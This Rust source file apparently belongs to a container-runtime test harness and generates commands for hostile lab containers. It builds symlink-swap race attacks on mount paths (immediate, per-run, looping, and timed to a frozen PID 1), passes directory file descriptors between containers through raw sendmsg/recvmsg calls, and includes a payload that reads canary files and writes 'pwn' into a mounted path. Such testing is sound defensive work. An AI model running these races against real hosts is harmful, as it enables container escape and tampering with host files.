//! What containers of a hostile lab run: programs that put links in the place of what others mount, and
//! one that shows and writes what it has been given. Those in perl are whole commands; those for a shell are what stands
//! between the quotes of `sh -c`.

use super::chance::Chance;

/// What is put out of its place: the folder that it is in, as the program sees it, its name there, and
/// what the link that takes its place leads to.
pub struct Swap {
    pub folder: String,
    pub name: &'static str,
    pub target: String,
}

/// The kernel's numbers of `sendmsg` and `recvmsg`.
const MESSAGES: (u32, u32) = if cfg!(target_arch = "aarch64") { (211, 212) } else { (46, 47) };

impl Swap {
    fn moves(&self) -> String {
        let Self { name, target, .. } = self;
        format!("mv {name} {name}.o; ln -s {target} {name}")
    }

    /// At once.
    pub fn now(&self) -> String {
        format!("cd {}; {}", self.folder, self.moves())
    }

    /// Back and forth with each run of it.
    pub fn each_run(&self) -> String {
        let Self { folder, name, .. } = self;
        let moves = self.moves();
        format!("cd {folder}; if [ -L {name} ]; then rm {name}; mv {name}.o {name}; else {moves}; fi")
    }

    /// At its nth run, and it stays.
    pub fn at_run(&self, nth: usize) -> String {
        let counts =
            format!("cd {}; n=$(cat n || echo 0); n=$((n+1)); echo $n > n; if [ $n -ge {nth} ]", self.folder);
        format!("{counts}; then {}; sleep 1000; fi", self.moves())
    }

    /// Back and forth, for ever.
    pub fn for_ever(&self, chance: &mut Chance) -> String {
        let enter = format!("chdir q({}) or die;", self.folder);
        format!("perl -e '{enter} {}'", self.rounds(chance))
    }

    /// The rounds of that, in the program's present folder.
    fn rounds(&self, chance: &mut Chance) -> String {
        let Self { name, target, .. } = self;
        let mut pause = || format!("select undef,undef,undef,0.{:03}", chance.one(&[2, 5, 10, 20, 40]));
        format!(
            "symlink q({target}),q({name}.l); while(1){{rename q({name}),q({name}.o);rename q({name}.l),q({name});{};\
             rename q({name}),q({name}.l);rename q({name}.o),q({name});{}}}",
            pause(),
            pause()
        )
    }

    /// While the first process that it sees is frozen; some milliseconds after it was.
    pub fn while_frozen(&self, chance: &mut Chance) -> String {
        let Self { folder, name, target } = self;
        let late = chance.one(&[4, 8, 15, 30]);
        format!(
            "perl -e 'chdir q({folder}) or die; symlink q({target}),q({name}.l); my $w=0; while(1){{\
             open F,q(</proc/1/stat); $_=<F>; close F; my ($s)=/\\) (\\S)/;\
             if($s eq q(D) && !$w){{select undef,undef,undef,0.{late:03};rename q({name}),q({name}.o);rename q({name}.l),q({name});$w=1}}\
             elsif($s ne q(D) && $w){{rename q({name}),q({name}.l);rename q({name}.o),q({name});$w=0}}\
             select undef,undef,undef,0.0005}}'"
        )
    }

    /// Gets a folder from another container through a socket, and goes back and forth there for ever. It
    /// needs no mount of that folder. `socket` is a path, or a name in the network's own space.
    pub fn in_a_folder_that_comes(&self, chance: &mut Chance, socket: &Socket) -> String {
        let receive = MESSAGES.1;
        format!(
            "perl -e 'use Socket; socket L,AF_UNIX,SOCK_STREAM,0; bind L,{} or die; listen L,1; accept C,L;\
             my $b=q(x); my $c=chr(0)x24; substr($c,0,1)=chr(0); my $i=pack(q(PQ),$b,1);\
             my $m=pack(q(QLx4PQPQix4),0,0,$i,1,$c,24,0); syscall({receive},fileno(C),$m,0);\
             my $f=unpack(q(x16i),$c); open H,q(<&=).$f; chdir H or die; {}'",
            socket.address(),
            self.rounds(chance)
        )
    }
}

/// Where two containers meet.
pub enum Socket {
    /// In a volume that both have, at this path.
    Path(&'static str),
    /// In the network that both have, under this name.
    Name(&'static str),
}

impl Socket {
    fn address(&self) -> String {
        match self {
            Self::Path(path) => format!("sockaddr_un(q({path}))"),
            Self::Name(name) => format!("pack(q(Sa*),AF_UNIX,chr(0).q({name}))"),
        }
    }
}

/// Passes an open folder to the container that waits at the socket, and ends.
pub fn pass(folder: &str, socket: &Socket) -> String {
    let send = MESSAGES.0;
    format!(
        "perl -e 'use Socket; socket C,AF_UNIX,SOCK_STREAM,0; for(1..300){{last if connect C,{}; select undef,undef,undef,0.01}}\
         use Fcntl; sysopen D,q({folder}),O_RDONLY or die; my $b=q(x); my $c=pack(q(Qiiix4),20,1,1,fileno(D)); my $i=pack(q(PQ),$b,1);\
         my $m=pack(q(QLx4PQPQix4),0,0,$i,1,$c,24,0); exit(syscall({send},fileno(C),$m,0)!=1)'",
        socket.address()
    )
}

/// Shows and writes whatever is at `/m`.
pub const SHOW_AND_WRITE: &str =
    "cat /m/canary /m/deep/canary /m; ls /m; echo pwn > /m/pwn; echo pwn >> /m; echo pwn >> /m/canary; true";
